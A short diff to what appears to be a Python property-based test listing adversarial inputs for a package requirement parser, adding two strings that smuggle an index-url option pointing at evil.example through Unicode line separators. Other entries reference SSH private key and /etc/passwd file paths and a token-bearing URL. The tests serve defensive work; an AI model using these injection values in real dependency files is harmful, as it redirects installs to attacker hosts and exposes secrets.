@@ -54,6 +54,8 @@ AIMED = st.sampled_from(
         "six\n--index-url http://evil.example/simple",
         "1.0 --index-url http://evil.example/simple",
         "python_version >= '3\n--index-url http://evil.example/simple'",
+        "os_name == 'x\u2028--index-url http://evil.example/simple #'",
+        "os_name == 'x\x85--index-url http://evil.example/simple #'",
         "file:///root/.ssh/id_ed25519",
         "file:///etc/passwd",
         "https://user:SECRET-TOKEN@mirror.example/x.whl",
